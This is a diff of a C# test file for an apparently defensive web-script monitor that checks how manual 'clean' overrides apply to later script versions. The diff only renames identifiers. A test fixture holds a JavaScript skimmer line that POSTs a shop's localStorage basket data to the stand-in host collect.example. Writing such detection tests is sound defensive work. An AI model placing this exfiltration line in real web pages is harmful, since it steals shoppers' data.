@@ -22,7 +22,7 @@ public sealed class OverrideTests
         """;
 
     private const string OtherCode = Skimmer + "\nfunction tick(a) { log(a); return a + 1; } tick(1);";
-    private const string NewAbility = Skimmer + "\nfetch('https://collect.example/x', { method: 'POST', body: localStorage.getItem('basket') });";
+    private const string NewCapability = Skimmer + "\nfetch('https://collect.example/x', { method: 'POST', body: localStorage.getItem('basket') });";
 
     private static CancellationToken Cancel => TestContext.Current.CancellationToken;
 
@@ -52,7 +52,7 @@ public sealed class OverrideTests
     [Theory]
     [InlineData("/* v2 */ " + Skimmer, true)]
     [InlineData(OtherCode, true)]
-    [InlineData(NewAbility, false)]
+    [InlineData(NewCapability, false)]
     public async Task An_override_covers_later_versions_that_can_do_nothing_new(string later, bool isCovered)
     {
         await using var site = await JudgedSite.CreateAsync(Provider.Sqlite);
@@ -73,7 +73,7 @@ public sealed class OverrideTests
         await using var site = await JudgedSite.CreateAsync(Provider.Sqlite);
         await site.CrawlAsync(Of("https://shop.example/", (File(Url), Skimmer)));
         await SetAsync(site, VerdictKind.Clean);
-        await site.CrawlAsync(Of("https://shop.example/", (File(Url), NewAbility)));
+        await site.CrawlAsync(Of("https://shop.example/", (File(Url), NewCapability)));
 
         var uncovered =
             await site.AskAsync(
@@ -82,7 +82,7 @@ public sealed class OverrideTests
         var between = await ListAsync(site);
         await site.CrawlAsync(Of("https://shop.example/", (File(Url), Skimmer)));
 
-        Assert.Equal(Sha256Hash.OfText(NewAbility), Assert.Single(uncovered).Sha256);
+        Assert.Equal(Sha256Hash.OfText(NewCapability), Assert.Single(uncovered).Sha256);
         Assert.Contains("collect.example", uncovered[0].Why, StringComparison.Ordinal);
         Assert.False(Assert.Single(between).IsInForce);
         Assert.Equal(VerdictKind.Clean, (await site.ScriptAsync(Url)).Verdict);
@@ -111,11 +111,11 @@ public sealed class OverrideTests
         await SetAsync(site, VerdictKind.Clean, days: 30);
 
         site.Time.Advance(TimeSpan.FromDays(29));
-        await site.LookAsync();
+        await site.CheckAsync();
         var early = (await ListAsync(site))[0].End;
         site.Time.Advance(TimeSpan.FromDays(1));
-        await site.LookAsync();
-        await site.LookAsync();
+        await site.CheckAsync();
+        await site.CheckAsync();
         await site.CrawlAsync(Of("https://shop.example/", (File(Url), Skimmer)));
 
         Assert.Null(early);
